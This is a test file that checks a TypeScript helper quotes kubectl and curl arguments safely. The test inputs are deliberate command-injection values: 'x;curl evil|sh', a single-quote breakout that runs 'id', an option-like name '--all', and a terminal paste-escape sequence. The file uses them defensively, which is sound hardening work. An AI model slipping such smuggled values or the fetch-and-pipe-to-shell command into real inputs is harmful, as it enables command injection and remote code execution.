import { expect, test } from 'vitest'
import { command, kubectl, kubectlOn, kubectlPatch, labelSelector } from '#lib/checks/rules/commands.ts'

const VM = { kind: 'WorkloadEntry', namespace: 'shop', name: 'vm-1' } as const

test('plain words stay bare', () => {
  expect(kubectlOn('get', VM, '-o', 'yaml')).toBe('kubectl get workloadentry vm-1 -n shop -o yaml')
  expect(kubectl('get', 'pods', '-A', '-l', labelSelector({ istio: 'ingressgateway' }))).toBe(
    'kubectl get pods -A -l istio=ingressgateway',
  )
})

test('what a name holds stays one argument', () => {
  expect(kubectlOn('delete', { ...VM, name: 'x;id' })).toBe(`kubectl delete workloadentry 'x;id' -n shop`)
  expect(kubectl('get', 'pods', '-l', labelSelector({ istio: 'x;curl evil|sh' }))).toBe(
    `kubectl get pods -l 'istio=x;curl evil|sh'`,
  )
  expect(kubectlPatch(VM, { spec: { targetPort: "x'; id; '" } })).toBe(
    `kubectl patch workloadentry vm-1 -n shop --type merge -p '{"spec":{"targetPort":"x'\\''; id; '\\''"}}'`,
  )
})

test('a name is no option', () => {
  expect(kubectlOn('delete', { ...VM, name: '--all' })).toBe('kubectl delete workloadentry/--all -n shop')
})

test('no control character begins a line or ends a paste', () => {
  expect(command('curl', 'http://a/\nid\u001b[201~')).toBe(`curl 'http://a/ id [201~'`)
})
